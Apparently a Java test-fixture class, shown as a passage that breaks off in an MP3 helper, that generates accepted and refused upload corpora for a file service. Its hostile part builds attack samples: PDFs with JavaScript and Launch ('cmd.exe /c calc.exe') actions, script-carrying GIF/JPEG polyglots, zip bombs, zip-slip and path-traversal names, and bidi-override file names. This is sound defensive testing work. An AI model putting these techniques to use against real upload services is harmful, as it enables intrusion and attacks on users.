package org.lfpl.artefact.upload;

import static java.nio.charset.StandardCharsets.ISO_8859_1;
import static java.nio.charset.StandardCharsets.US_ASCII;
import static java.nio.charset.StandardCharsets.UTF_16LE;
import static java.nio.charset.StandardCharsets.UTF_8;

import java.awt.Color;
import java.awt.GradientPaint;
import java.awt.Graphics2D;
import java.awt.image.BufferedImage;
import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.OutputStream;
import java.io.UncheckedIOException;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.Collections;
import java.util.List;
import java.util.Locale;
import java.util.Random;
import java.util.UUID;
import java.util.zip.CRC32;
import java.util.zip.Deflater;
import java.util.zip.DeflaterOutputStream;
import javax.imageio.ImageIO;
import javax.sound.sampled.AudioFileFormat;
import javax.sound.sampled.AudioFormat;
import javax.sound.sampled.AudioInputStream;
import javax.sound.sampled.AudioSystem;
import org.apache.pdfbox.cos.COSArray;
import org.apache.pdfbox.cos.COSName;
import org.apache.pdfbox.cos.COSString;
import org.apache.pdfbox.pdmodel.PDDocument;
import org.apache.pdfbox.pdmodel.PDPage;
import org.apache.pdfbox.pdmodel.PDPageContentStream;
import org.apache.pdfbox.pdmodel.common.PDRectangle;
import org.apache.pdfbox.pdmodel.font.PDType1Font;
import org.apache.pdfbox.pdmodel.font.Standard14Fonts;

/**
 * Two upload corpora for the artefact service's parameterized tests, generated in memory: no
 * test resources, no network, deterministic (fixed seeds, fixed zip timestamps, no clocks).
 *
 * <ul>
 *   <li>{@link #realDocuments()}: small, well-formed files of every allowed extension that the
 *       service must accept, each with the media type it must store. Every sample was checked
 *       against tika-core 3.2.3 ({@code MimeTypes.getDefaultMimeTypes()}, content only): the
 *       extension's type equals the magic type or specialises it in the media type registry, and
 *       no binary sample contains a web-active marker.
 *   <li>{@link #hostileUploads()}: files the service must refuse, each with the HTTP status and
 *       problem type slug it must answer with.
 * </ul>
 *
 * <p>Audio and video samples hold about a second of silence (MP3, AAC, Opus, Vorbis, PCM) and
 * decode; the legacy Office samples are valid OLE2 compound files whose main stream is only a
 * stub (enough for detection and the safety checks, not for conversion). Images, PDFs, OOXML and
 * ODF are complete documents.
 *
 * <p>The corpora are built once per JVM (in well under a second) and every call returns fresh
 * copies of the bytes, so a test cannot disturb another.
 */
public final class UploadCorpus {

    /** A file that must be accepted, and the media type the service must report for it. */
    public record Accepted(String fileName, byte[] bytes, String mediaType) {
        @Override
        public String toString() {
            return fileName;
        }
    }

    /**
     * A file that must be refused, why (for the test's display name), and the HTTP status and
     * problem type slug expected.
     */
    public record Refused(String why, String fileName, byte[] bytes, int status, String problem) {
        @Override
        public String toString() {
            return why;
        }
    }

    /** The upload size limit the tests configure; {@link #hostileUploads()} has one file above it. */
    public static final int TEST_UPLOAD_LIMIT = 2 * 1024 * 1024;

    /** Files of every allowed extension that must be accepted (jpg and jpeg both). */
    public static List<Accepted> realDocuments() {
        return Real.DOCUMENTS.stream()
                .map(a -> new Accepted(a.fileName(), a.bytes().clone(), a.mediaType()))
                .toList();
    }

    /** Files that must be refused, with the status and problem type expected. */
    public static List<Refused> hostileUploads() {
        return Hostile.UPLOADS.stream()
                .map(r -> new Refused(r.why(), r.fileName(), r.bytes().clone(), r.status(), r.problem()))
                .toList();
    }

    private UploadCorpus() {}

    // ---------------------------------------------------------------------------------------
    // Media types the service stores (Tika 3.2.3 canonical names)
    // ---------------------------------------------------------------------------------------

    static final String PDF = "application/pdf";
    static final String DOCX = "application/vnd.openxmlformats-officedocument.wordprocessingml.document";
    static final String DOC = "application/msword";
    static final String ODT = "application/vnd.oasis.opendocument.text";
    static final String RTF = "application/rtf";
    static final String PPTX = "application/vnd.openxmlformats-officedocument.presentationml.presentation";
    static final String PPT = "application/vnd.ms-powerpoint";
    static final String ODP = "application/vnd.oasis.opendocument.presentation";
    static final String XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet";
    static final String XLS = "application/vnd.ms-excel";
    static final String ODS = "application/vnd.oasis.opendocument.spreadsheet";
    static final String CSV = "text/csv";
    static final String PNG = "image/png";
    static final String JPEG = "image/jpeg";
    static final String GIF = "image/gif";
    static final String WEBP = "image/webp";
    static final String MP3 = "audio/mpeg";
    static final String M4A = "audio/mp4";
    /** Tika's canonical name; audio/wav and audio/x-wav are only aliases of it. */
    static final String WAV = "audio/vnd.wave";
    /**
     * Tika maps *.ogg, and Ogg Vorbis content, to audio/vorbis (a sub-type of audio/ogg). With
     * audio/ogg as the extension's type the rule "extension type equals or specialises the magic
     * type" would refuse every real Ogg Vorbis file, so the service must use audio/vorbis.
     */
    static final String OGG = "audio/vorbis";
    static final String MP4 = "video/mp4";
    static final String WEBM = "video/webm";
    static final String MOV = "video/quicktime";
    static final String TXT = "text/plain";
    static final String MD = "text/x-web-markdown";

    // Statuses and problem type slugs.
    private static final int BAD_REQUEST = 400;
    private static final int CONTENT_TOO_LARGE = 413;
    private static final int UNSUPPORTED_MEDIA_TYPE = 415;
    private static final int UNPROCESSABLE = 422;
    private static final String EMPTY_FILE = "empty-file";
    private static final String TOO_LARGE = "too-large";
    private static final String INVALID_FILE_NAME = "invalid-file-name";
    private static final String TYPE_NOT_ALLOWED = "type-not-allowed";
    private static final String TYPE_MISMATCH = "type-mismatch";
    private static final String UNSAFE_CONTAINER = "unsafe-container";
    private static final String ACTIVE_CONTENT = "active-content";
    private static final String IMAGE_TOO_LARGE = "image-too-large";

    // ---------------------------------------------------------------------------------------
    // The accepted corpus
    // ---------------------------------------------------------------------------------------

    private static final class Real {
        static final List<Accepted> DOCUMENTS = build();

        private static List<Accepted> build() {
            List<Accepted> docs = new ArrayList<>();
            // Documents. Unicode, spaces and inner dots in names are ordinary and must pass.
            docs.add(new Accepted("Präsentation für Schulen.pdf",
                    Pdfs.document("Präsentation für Schulen", "Lernende Schulen – Netzwerktreffen"), PDF));
            docs.add(new Accepted("v1.2 final.pdf", Pdfs.document("Leitfaden v1.2", "Endfassung"), PDF));
            // Exactly 255 UTF-8 bytes: the longest name allowed.
            docs.add(new Accepted("b".repeat(251) + ".pdf", Pdfs.document("Grenzfall", "255 Bytes"), PDF));
            docs.add(new Accepted("学习共同体.docx", Office.docx("学习共同体 – Protokoll des Treffens"), DOCX));
            docs.add(new Accepted("Brief an die Eltern.doc", Office.doc(), DOC));
            docs.add(new Accepted("Écoles partenaires.odt", Office.odt("Écoles partenaires – Bericht"), ODT));
            docs.add(new Accepted("Einladung.rtf", Text.rtf(), RTF));
            docs.add(new Accepted("Auftakt 2024.pptx", Office.pptx("Präsentation für Schulen"), PPTX));
            docs.add(new Accepted("Schuljahr.ppt", Office.ppt(), PPT));
            docs.add(new Accepted("Ideen-Sammlung.odp", Office.odp("Ideen für das Schuljahr"), ODP));
            docs.add(new Accepted("Übersicht Teilnehmende.xlsx", Office.xlsx(), XLSX));
            docs.add(new Accepted("Budget.xls", Office.xls(), XLS));
            docs.add(new Accepted("Zeitplan.ods", Office.ods(), ODS));
            docs.add(new Accepted("Teilnehmende.csv", Text.csv(), CSV));
            // Images, large enough for meaningful thumbnails. Upper-case extensions (cameras) too.
            docs.add(new Accepted("Klassenfoto.png", Images.png(128, 96, 1), PNG));
            docs.add(new Accepted("Schulhof.jpg", Images.jpeg(128, 96, 2), JPEG));
            docs.add(new Accepted("IMG_0042.JPG", Images.jpeg(96, 128, 3), JPEG));
            docs.add(new Accepted("Ausflug.jpeg", Images.jpeg(120, 80, 4), JPEG));
            docs.add(new Accepted("Animation.gif", Images.gif(96, 64, 5), GIF));
            docs.add(new Accepted("Logo.webp", Images.webp(), WEBP));
            // Audio and video.
            docs.add(new Accepted("Hörprobe.mp3", Media.mp3(), MP3));
            docs.add(new Accepted("Interview.m4a", Media.isoMedia("M4A ", 0, "M4A ", "mp42", "isom"), M4A));
            docs.add(new Accepted("Klingelton.wav", Media.wav(), WAV));
            docs.add(new Accepted("Schulchor.ogg", Media.oggVorbis(), OGG));
            docs.add(new Accepted("Projektfilm.mp4", Media.isoMedia("mp42", 0, "mp42", "isom", "mp41"), MP4));
            docs.add(new Accepted("Werkstatt.webm", Media.webm(), WEBM));
            docs.add(new Accepted("Clip vom Sportfest.mov", Media.isoMedia("qt  ", 0x20050300, "qt  "), MOV));
            // Plain text.
            docs.add(new Accepted("Notizen.txt", Text.utf8("Notizen zum Treffen\nGrüße aus München – bis bald!\n"), TXT));
            docs.add(new Accepted("日本語のメモ.txt",
                    Text.utf8("学び合う学校のネットワーク\n次回の会議は月曜日です。\n"), TXT));
            docs.add(new Accepted("README.md", Text.markdown(), MD));
            docs.add(new Accepted("Σημειώσεις.md",
                    Text.utf8("# Σημειώσεις\n\n- Σχολεία: 12\n- Συνάντηση: Δευτέρα\n"), MD));
            return List.copyOf(docs);
        }
    }

    // ---------------------------------------------------------------------------------------
    // The hostile corpus
    // ---------------------------------------------------------------------------------------

    private static final class Hostile {
        static final List<Refused> UPLOADS = build();

        private static List<Refused> build() {
            List<Refused> refused = new ArrayList<>();
            byte[] pdf = Pdfs.document("Handout", "Sicheres Beispiel");
            byte[] jpeg = Images.jpeg(64, 64, 11);
            byte[] png = Images.png(64, 64, 12);
            byte[] text = Text.utf8("Harmloser Text\n");

            // --- Size -------------------------------------------------------------------------
            refused.add(new Refused("empty file", "empty.pdf", new byte[0], BAD_REQUEST, EMPTY_FILE));
            refused.add(new Refused("3 MiB PDF over the 2 MiB test limit", "proceedings.pdf",
                    Pdfs.oversized(3 * 1024 * 1024), CONTENT_TOO_LARGE, TOO_LARGE));

            // --- Extensions outside the allow-list ----------------------------------------------
            refused.add(new Refused("HTML page with a script", "page.html", Web.html(),
                    UNSUPPORTED_MEDIA_TYPE, TYPE_NOT_ALLOWED));
            refused.add(new Refused("SVG with a script", "image.svg", Web.svg(),
                    UNSUPPORTED_MEDIA_TYPE, TYPE_NOT_ALLOWED));
            byte[] bomb = Zips.bombDocx();
            refused.add(new Refused("zip bomb as .zip", "bomb.zip", bomb, UNSUPPORTED_MEDIA_TYPE, TYPE_NOT_ALLOWED));

            // --- Content that is not what the extension claims ---------------------------------
            // Executables under document names: magic application/x-msdownload, application/x-executable.
            refused.add(new Refused("Windows PE executable named .pdf", "report.pdf", Binaries.pe(),
                    UNSUPPORTED_MEDIA_TYPE, TYPE_MISMATCH));
            refused.add(new Refused("ELF executable named .png", "photo.png", Binaries.elf(),
                    UNSUPPORTED_MEDIA_TYPE, TYPE_MISMATCH));
            // Scripts under text names: Tika's magic says application/x-sh, text/x-php, text/html;
            // text/plain is their super-type, not a specialisation of them.
            refused.add(new Refused("shell script named .txt", "notes.txt", Web.shellScript(),
                    UNSUPPORTED_MEDIA_TYPE, TYPE_MISMATCH));
            refused.add(new Refused("PHP script named .txt", "readme.txt", Web.php(),
                    UNSUPPORTED_MEDIA_TYPE, TYPE_MISMATCH));
            refused.add(new Refused("HTML with a script named .txt", "notes.txt", Web.html(),
                    UNSUPPORTED_MEDIA_TYPE, TYPE_MISMATCH));
            refused.add(new Refused("HTML with a script named .md", "notes.md", Web.html(),
                    UNSUPPORTED_MEDIA_TYPE, TYPE_MISMATCH));
            // Magic image/svg+xml: an SVG runs its script when opened as a document, so it must not pass as a PNG.
            refused.add(new Refused("SVG with a script named .png", "image.png", Web.svg(),
                    UNSUPPORTED_MEDIA_TYPE, TYPE_MISMATCH));
            refused.add(new Refused("PDF renamed to .pptx", "slides.pptx", pdf, UNSUPPORTED_MEDIA_TYPE, TYPE_MISMATCH));
            refused.add(new Refused("PNG renamed to .docx", "report.docx", png, UNSUPPORTED_MEDIA_TYPE, TYPE_MISMATCH));

            // --- Unsafe zip containers (magic application/zip, x-tika-ooxml or the ODF type: the type check passes)
            // One deflated entry of 600 MiB of zeros: ~1000x the file size and over 512 MiB inflated.
            refused.add(new Refused("zip bomb as .docx", "bomb.docx", bomb, UNPROCESSABLE, UNSAFE_CONTAINER));
            // 20 MiB of zeros: under the 512 MiB cap but over 100x the file size.
            refused.add(new Refused("compression ratio over 100x", "Bericht.odt", Zips.ratioBombOdt(),
                    UNPROCESSABLE, UNSAFE_CONTAINER));
            refused.add(new Refused("more than 10,000 zip entries", "Tabelle.xlsx", Zips.tooManyEntriesXlsx(),
                    UNPROCESSABLE, UNSAFE_CONTAINER));
            refused.add(new Refused("Word macros (vbaProject.bin) in a .docx", "letter.docx", Zips.macroDocx(),
                    UNPROCESSABLE, UNSAFE_CONTAINER));
            refused.add(new Refused("zip-slip entry ../../evil.sh", "slides.pptx", Zips.traversalPptx(),
                    UNPROCESSABLE, UNSAFE_CONTAINER));
            refused.add(new Refused("absolute zip entry /etc/cron.d/lfpl", "Zahlen.xlsx", Zips.absoluteEntryXlsx(),
                    UNPROCESSABLE, UNSAFE_CONTAINER));
            refused.add(new Refused("zip-slip entry with backslashes", "Ideen.odp", Zips.backslashTraversalOdp(),
                    UNPROCESSABLE, UNSAFE_CONTAINER));
            refused.add(new Refused("plain zip of payloads named .docx", "Vertrag.docx", Zips.payloadZip(),
                    UNPROCESSABLE, UNSAFE_CONTAINER));
            refused.add(new Refused("Word document renamed to .xlsx", "Liste.xlsx", Office.docx("Kein Arbeitsblatt"),
                    UNPROCESSABLE, UNSAFE_CONTAINER));

            // --- Web-active content hidden in binary formats ------------------------------------
            refused.add(new Refused("GIF/JavaScript polyglot", "animation.gif", Images.gifScriptPolyglot(),
                    UNPROCESSABLE, ACTIVE_CONTENT));
            refused.add(new Refused("JPEG with HTML in a COM segment", "photo.jpg", Images.jpegWithHtmlComment(),
                    UNPROCESSABLE, ACTIVE_CONTENT));
            refused.add(new Refused("PDF with a JavaScript OpenAction", "handout.pdf", Pdfs.javaScript(),
                    UNPROCESSABLE, ACTIVE_CONTENT));
            refused.add(new Refused("PDF with a Launch action", "Einladung.pdf", Pdfs.launch(),
                    UNPROCESSABLE, ACTIVE_CONTENT));
            refused.add(new Refused("PDF with an embedded executable", "Rechnung.pdf", Pdfs.embeddedFile(),
                    UNPROCESSABLE, ACTIVE_CONTENT));
            refused.add(new Refused("PDF/ZIP polyglot carrying an HTML page", "Flyer.pdf", Pdfs.withAppendedZip(),
                    UNPROCESSABLE, ACTIVE_CONTENT));

            // --- Decompression bombs by declared image size ---------------------------------------
            refused.add(new Refused("PNG declaring 100000x100000 pixels", "huge.png", Images.pngHeader(100_000, 100_000),
                    UNPROCESSABLE, IMAGE_TOO_LARGE));
            refused.add(new Refused("PNG of 100 megapixels within the side limit", "poster.png",
                    Images.pngHeader(10_000, 10_000), UNPROCESSABLE, IMAGE_TOO_LARGE));
            refused.add(new Refused("JPEG 30000 pixels wide", "panorama.jpg", Images.jpegDeclaring(30_000, 16),
                    UNPROCESSABLE, IMAGE_TOO_LARGE));

            // --- File names (the bodies are valid, so only the name is wrong) ---------------------
            badName(refused, "path traversal", "../../etc/passwd.pdf", pdf);
            badName(refused, "Windows path", "C:\\Windows\\evil.pdf", pdf);
            badName(refused, "directory in the name", "docs/report.pdf", pdf);
            // U+202E RIGHT-TO-LEFT OVERRIDE: displays as "reportexe.pdf", is an .exe.
            badName(refused, "bidi override hiding .exe", "report\u202Efdp.exe", pdf);
            // The same trick with an allowed real extension: only the format character is wrong.
            badName(refused, "bidi override in a .pdf name", "Rechnung\u202Efdp.pdf", pdf);
            badName(refused, "zero-width space", "inv\u200Boice.pdf", pdf);
            badName(refused, "zero-width joiner", "re\u200Dport.pdf", pdf);
            badName(refused, "byte order mark", "\uFEFFnotes.txt", text);
            badName(refused, "NUL byte", "a\u0000b.pdf", pdf);
            badName(refused, "tab", "tab\tname.pdf", pdf);
            badName(refused, "line feed (header injection)", "line\nbreak.pdf", pdf);
            badName(refused, "DEL", "del\u007Fname.pdf", pdf);
            badName(refused, "C1 control NEL", "next\u0085line.pdf", pdf);
            badName(refused, "leading dot (.htaccess)", ".htaccess.txt", text);
            badName(refused, "leading dot (hidden file)", ".hidden.pdf", pdf);
            badName(refused, "Windows reserved CON", "CON.pdf", pdf);
            badName(refused, "Windows reserved nul, lower case", "nul.txt", text);
            badName(refused, "Windows reserved COM1", "COM1.pdf", pdf);
            badName(refused, "Windows reserved LPT1", "lpt1.jpg", jpeg);
            badName(refused, "double extension .exe.pdf", "report.exe.pdf", pdf);
            badName(refused, "double extension .php.jpg", "shell.php.jpg", jpeg);
            badName(refused, "double extension .js inside", "invoice.pdf.js.txt", text);
            badName(refused, "double extension .hta, upper case", "Rechnung.HTA.pdf", pdf);
            badName(refused, "300-byte name", "a".repeat(296) + ".pdf", pdf);
            // 90 characters but 262 UTF-8 bytes: the limit counts bytes, not characters.
            badName(refused, "262 UTF-8 bytes in 90 characters", "学".repeat(86) + ".pdf", pdf);
            return List.copyOf(refused);
        }

        private static void badName(List<Refused> refused, String why, String fileName, byte[] body) {
            refused.add(new Refused("file name: " + why, fileName, body, BAD_REQUEST, INVALID_FILE_NAME));
        }
    }

    // ---------------------------------------------------------------------------------------
    // PDF
    // ---------------------------------------------------------------------------------------

    private static final class Pdfs {

        /** A one-page A4 PDF written by PDFBox: a heading, a line of text and a coloured box. */
        static byte[] document(String heading, String line) {
            try (PDDocument doc = new PDDocument(); ByteArrayOutputStream out = new ByteArrayOutputStream()) {
                PDPage page = new PDPage(PDRectangle.A4);
                doc.addPage(page);
                doc.getDocumentInformation().setTitle(heading);
                // A fixed file identifier: PDFBox would otherwise derive one from the clock.
                UUID fixed = UUID.nameUUIDFromBytes(heading.getBytes(UTF_8));
                byte[] id = new Out().u32be(fixed.getMostSignificantBits() >>> 32).u32be(fixed.getMostSignificantBits())
                        .u32be(fixed.getLeastSignificantBits() >>> 32).u32be(fixed.getLeastSignificantBits()).toByteArray();
                COSArray ids = new COSArray();
                ids.add(new COSString(id));
                ids.add(new COSString(id));
                doc.getDocument().getTrailer().setItem(COSName.ID, ids);
                try (PDPageContentStream content = new PDPageContentStream(doc, page)) {
                    content.setNonStrokingColor(new Color(0x2A6F97));
                    content.addRect(72, 620, 451, 120);
                    content.fill();
                    content.beginText();
                    content.setNonStrokingColor(Color.BLACK);
                    content.setFont(new PDType1Font(Standard14Fonts.FontName.HELVETICA_BOLD), 22);
                    content.setLeading(30);
                    content.newLineAtOffset(72, 780);
                    content.showText(heading);
                    content.setFont(new PDType1Font(Standard14Fonts.FontName.HELVETICA), 14);
                    content.newLine();
                    content.showText(line);
                    content.endText();
                }
                doc.save(out);
                return out.toByteArray();
            } catch (IOException e) {
                throw new UncheckedIOException(e);
            }
        }

        /**
         * A valid PDF of at least {@code size} bytes: the page's content stream carries the text
         * and then PDF comment lines (allowed in content streams) as padding.
         */
        static byte[] oversized(int size) {
            StringBuilder content = new StringBuilder(size + 100).append(showText("Proceedings (padded)"));
            for (int line = 0; content.length() < size; line++) {
                content.append(String.format(Locale.ROOT, "%% padding line %08d %s\n", line, ".".repeat(40)));
            }
            return handWritten("", content.toString());
        }

        /** Opens with a JavaScript action: the classic malicious-PDF entry point. */
        static byte[] javaScript() {
            return handWritten("/OpenAction 6 0 R", showText("Handout"),
                    "<< /Type /Action /S /JavaScript /JS (app.alert\\('Hello from handout.pdf'\\);) >>");
        }

        /** Opens with a Launch action that starts a program on the reader's machine. */
        static byte[] launch() {
            return handWritten("/OpenAction 6 0 R", showText("Einladung"),
                    "<< /Type /Action /S /Launch /Win << /F (cmd.exe) /P (/c calc.exe) >> >>");
        }

        /** Carries an attached executable that a reader offers to open. */
        static byte[] embeddedFile() {
            String payload = new String(Binaries.pe(), ISO_8859_1);
            return handWritten("/Names << /EmbeddedFiles << /Names [(invoice.exe) 6 0 R] >> >>", showText("Rechnung"),
                    "<< /Type /Filespec /F (invoice.exe) /EF << /F 7 0 R >> >>",
                    stream("/Type /EmbeddedFile", payload));
        }

        /**
         * A valid PDF with a ZIP appended (readers find the PDF header at the start, unzip tools
         * the central directory at the end). The archive stores, uncompressed, an HTML page with a
         * script, which the active-content scan sees. A PDF/ZIP polyglot whose entries are
         * deflated or harmless is not refused by any rule and is therefore not in this corpus.
         */
        static byte[] withAppendedZip() {
            byte[] zip = Zips.zip(List.of(Zips.Part.stored("index.html", Web.html())));
            ByteArrayOutputStream out = new ByteArrayOutputStream();
            out.writeBytes(document("Flyer", "Sommerfest"));
            out.writeBytes(zip);
            return out.toByteArray();
        }

        private static String showText(String text) {
            return "BT /F1 18 Tf 72 760 Td (" + text + ") Tj ET\n";
        }

        private static String stream(String dictionaryEntries, String content) {
            return "<< " + dictionaryEntries + " /Length " + content.length() + " >>\nstream\n" + content + "\nendstream";
        }

        /**
         * A one-page PDF written byte by byte, uncompressed, so that what it says (actions,
         * attachments) stands in plain sight. Objects 1-5 are catalog, pages, page, font and
         * content; {@code extraObjects} become objects 6, 7, ...
         */
        private static byte[] handWritten(String catalogEntries, String pageContent, String... extraObjects) {
            List<String> objects = new ArrayList<>();
            objects.add("<< /Type /Catalog /Pages 2 0 R " + catalogEntries + " >>");
            objects.add("<< /Type /Pages /Kids [3 0 R] /Count 1 >>");
            objects.add("<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842]"
                    + " /Resources << /Font << /F1 4 0 R >> >> /Contents 5 0 R >>");
            objects.add("<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>");
            objects.add(stream("", pageContent));
            objects.addAll(Arrays.asList(extraObjects));

            // ISO-8859-1 throughout, so one char is one byte and offsets are string lengths.
            StringBuilder pdf = new StringBuilder("%PDF-1.7\n%\u00e2\u00e3\u00cf\u00d3\n");
            int[] offsets = new int[objects.size()];
            for (int i = 0; i < objects.size(); i++) {
                offsets[i] = pdf.length();
                pdf.append(i + 1).append(" 0 obj\n").append(objects.get(i)).append("\nendobj\n");
            }
            int xref = pdf.length();
            pdf.append("xref\n0 ").append(objects.size() + 1).append("\n0000000000 65535 f \n");
            for (int offset : offsets) {
                pdf.append(String.format(Locale.ROOT, "%010d 00000 n \n", offset));
            }
            pdf.append("trailer\n<< /Size ").append(objects.size() + 1).append(" /Root 1 0 R >>\n")
                    .append("startxref\n").append(xref).append("\n%%EOF\n");
            return pdf.toString().getBytes(ISO_8859_1);
        }
    }

    // ---------------------------------------------------------------------------------------
    // Images
    // ---------------------------------------------------------------------------------------

    private static final class Images {

        /** A gradient with a few coloured discs and a bar: content a thumbnail can show. */
        static BufferedImage picture(int width, int height, long seed) {
            BufferedImage image = new BufferedImage(width, height, BufferedImage.TYPE_INT_RGB);
            Graphics2D g = image.createGraphics();
            try {
                g.setPaint(new GradientPaint(0, 0, new Color(0x2A6F97), width, height, new Color(0xF4D35E)));
                g.fillRect(0, 0, width, height);
                Random random = new Random(seed);
                for (int i = 0; i < 6; i++) {
                    int d = 8 + random.nextInt(Math.min(width, height) / 2);
                    g.setColor(new Color(random.nextInt(0x1000000)));
                    g.fillOval(random.nextInt(width - d), random.nextInt(height - d), d, d);
                }
                g.setColor(Color.WHITE);
                g.fillRect(width / 8, height * 3 / 4, width * 3 / 4, height / 10);
            } finally {
                g.dispose();
            }
            return image;
        }

        static byte[] png(int width, int height, long seed) {
            return write(picture(width, height, seed), "png");
        }

        static byte[] jpeg(int width, int height, long seed) {
            return write(picture(width, height, seed), "jpeg");
        }

        static byte[] gif(int width, int height, long seed) {
            return write(picture(width, height, seed), "gif");
        }

        private static byte[] write(BufferedImage image, String format) {
            try (ByteArrayOutputStream out = new ByteArrayOutputStream()) {
                if (!ImageIO.write(image, format, out)) {
                    throw new IllegalStateException("no ImageIO writer for " + format);
                }
                return out.toByteArray();
            } catch (IOException e) {
                throw new UncheckedIOException(e);
            }
        }

        /**
         * A 64x64 lossless WebP (VP8L), encoded by hand: no transforms, no colour cache, and
         * "simple" prefix codes of two symbols for green, red and blue (one bit each per pixel)
         * and one symbol for alpha and distance. The eight colours form quadrants and a checker.
         */
        static byte[] webp() {
            int size = 64;
            int[] greens = {0x40, 0xC0};
            int[] reds = {0x20, 0xE0};
            int[] blues = {0x10, 0xF0};
            BitWriter bits = new BitWriter();
            bits.write(0x2F, 8);             // VP8L signature
            bits.write(size - 1, 14);        // width - 1
            bits.write(size - 1, 14);        // height - 1
            bits.write(0, 1);                // alpha_is_used
            bits.write(0, 3);                // version
            bits.write(0, 1);                // no transform
            bits.write(0, 1);                // no colour cache
            bits.write(0, 1);                // no meta prefix codes
            simpleCode(bits, greens[0], greens[1]);
            simpleCode(bits, reds[0], reds[1]);
            simpleCode(bits, blues[0], blues[1]);
            simpleCode(bits, 0xFF);          // alpha: always opaque
            simpleCode(bits, 0);             // distance: unused
            for (int y = 0; y < size; y++) {
                for (int x = 0; x < size; x++) {
                    // Canonical codes: the smaller symbol has code 0. Order: green, red, blue (alpha: 0 bits).
                    bits.write(y < size / 2 ? 0 : 1, 1);
                    bits.write(x < size / 2 ? 0 : 1, 1);
                    bits.write((x / 8 + y / 8) & 1, 1);
                }
            }
            byte[] vp8l = bits.toByteArray();
            int padding = vp8l.length & 1;
            Out riff = new Out().ascii("RIFF").u32le(4 + 8 + vp8l.length + padding).ascii("WEBP")
                    .ascii("VP8L").u32le(vp8l.length).bytes(vp8l).zeros(padding);
            return riff.toByteArray();
        }

        private static void simpleCode(BitWriter bits, int symbol) {
            bits.write(1, 1);      // simple code
            bits.write(0, 1);      // one symbol
            if (symbol < 2) {
                bits.write(0, 1);  // 1-bit symbol
                bits.write(symbol, 1);
            } else {
                bits.write(1, 1);  // 8-bit symbol
                bits.write(symbol, 8);
            }
        }

        private static void simpleCode(BitWriter bits, int first, int second) {
            bits.write(1, 1);      // simple code
            bits.write(1, 1);      // two symbols
            bits.write(1, 1);      // first symbol has 8 bits
            bits.write(first, 8);
            bits.write(second, 8);
        }

        /**
         * A PNG whose IHDR (with a correct CRC) declares the given size, followed by a short
         * IDAT and IEND: a decoder that trusted the header would allocate width x height x 3
         * bytes. ImageIO reports the declared width and height without decoding.
         */
        static byte[] pngHeader(int width, int height) {
            Out ihdr = new Out().u32be(width).u32be(height)
                    .u8(8).u8(2).u8(0).u8(0).u8(0); // 8-bit RGB, deflate, adaptive filter, no interlace
            byte[] firstRow = deflate(new byte[1 + 3 * Math.min(width, 4096)]);
            Out png = new Out().bytes(new byte[] {(byte) 0x89, 'P', 'N', 'G', '\r', '\n', 0x1A, '\n'});
            pngChunk(png, "IHDR", ihdr.toByteArray());
            pngChunk(png, "IDAT", firstRow);
            pngChunk(png, "IEND", new byte[0]);
            return png.toByteArray();
        }

        private static void pngChunk(Out png, String type, byte[] data) {
            CRC32 crc = new CRC32();
            crc.update(type.getBytes(US_ASCII));
            crc.update(data);
            png.u32be(data.length).ascii(type).bytes(data).u32be(crc.getValue());
        }

        /** A real JPEG whose SOF0 header is patched to declare another size. */
        static byte[] jpegDeclaring(int width, int height) {
            byte[] jpeg = jpeg(64, 64, 21);
            for (int i = 2; i + 9 < jpeg.length; ) {
                if ((jpeg[i] & 0xFF) != 0xFF) {
                    throw new IllegalStateException("unexpected JPEG layout");
                }
                int marker = jpeg[i + 1] & 0xFF;
                if (marker == 0xC0) { // SOF0: length(2) precision(1) height(2) width(2)
                    jpeg[i + 5] = (byte) (height >>> 8);
                    jpeg[i + 6] = (byte) height;
                    jpeg[i + 7] = (byte) (width >>> 8);
                    jpeg[i + 8] = (byte) width;
                    return jpeg;
                }
                i += 2 + (((jpeg[i + 2] & 0xFF) << 8) | (jpeg[i + 3] & 0xFF));
            }
            throw new IllegalStateException("no SOF0 segment");
        }

        /**
         * A valid GIF carrying an HTML script in a comment extension: harmless as an image, but
         * the script runs wherever the file is ever rendered as HTML (sniffed, or served with a
         * wrong content type).
         */
        static byte[] gifScriptPolyglot() {
            byte[] gif = gif(64, 64, 13);
            if (gif[gif.length - 1] != 0x3B) {
                throw new IllegalStateException("GIF does not end with a trailer");
            }
            byte[] payload = "*/=1;<script>alert(document.domain)</script>/*".getBytes(US_ASCII);
            Out out = new Out().bytes(Arrays.copyOf(gif, gif.length - 1))
                    .u8(0x21).u8(0xFE).u8(payload.length).bytes(payload).u8(0) // comment extension
                    .u8(0x3B);
            return out.toByteArray();
        }

        /** A valid JPEG with an HTML page in a COM segment right after SOI. */
        static byte[] jpegWithHtmlComment() {
            byte[] jpeg = jpeg(64, 64, 14);
            byte[] html = "<html><body><script>alert(document.cookie)</script></body></html>".getBytes(US_ASCII);
            Out out = new Out().bytes(Arrays.copyOf(jpeg, 2))
                    .u8(0xFF).u8(0xFE).u16be(html.length + 2).bytes(html)
                    .bytes(Arrays.copyOfRange(jpeg, 2, jpeg.length));
            return out.toByteArray();
        }
    }

    // ---------------------------------------------------------------------------------------
    // Audio and video
    // ---------------------------------------------------------------------------------------

    private static final class Media {

        /** Half a second of a 440 Hz tone, 8 kHz 16-bit mono, written by javax.sound. */
        static byte[] wav() {
            float rate = 8000f;
            int frames = 4000;
            byte[] pcm = new byte[frames * 2];
            for (int i = 0; i < frames; i++) {
                short sample = (short) (StrictMath.sin(2 * Math.PI * 440 * i / rate) * 8000);
                pcm[2 * i] = (byte) sample;
                pcm[2 * i + 1] = (byte) (sample >>> 8);
            }
            AudioFormat format = new AudioFormat(rate, 16, 1, true, false);
            try (AudioInputStream audio = new AudioInputStream(new ByteArrayInputStream(pcm), format, frames);
                    ByteArrayOutputStream out = new ByteArrayOutputStream()) {
                AudioSystem.write(audio, AudioFileFormat.Type.WAVE, out);
                return out.toByteArray();
            } catch (IOException e) {
                throw new UncheckedIOException(e);
            }
        }

        /**
         * An ID3v2.4 tag with a UTF-8 title, then 38 silent MPEG-1 Layer III frames (128 kbit/s,
         * 44.1 kHz, joint stereo: 417 bytes each, zero side information), about one second.
         */
        static byte[] mp3() {
            byte[] title = "Hörprobe – Schulchor".getBytes(UTF_8);
            Out frame = new Out().ascii("TIT2").u32be(synchsafe(title.length + 1)).u16be(0).u8(3).bytes(title);
            byte[] frames = frame.toByteArray();
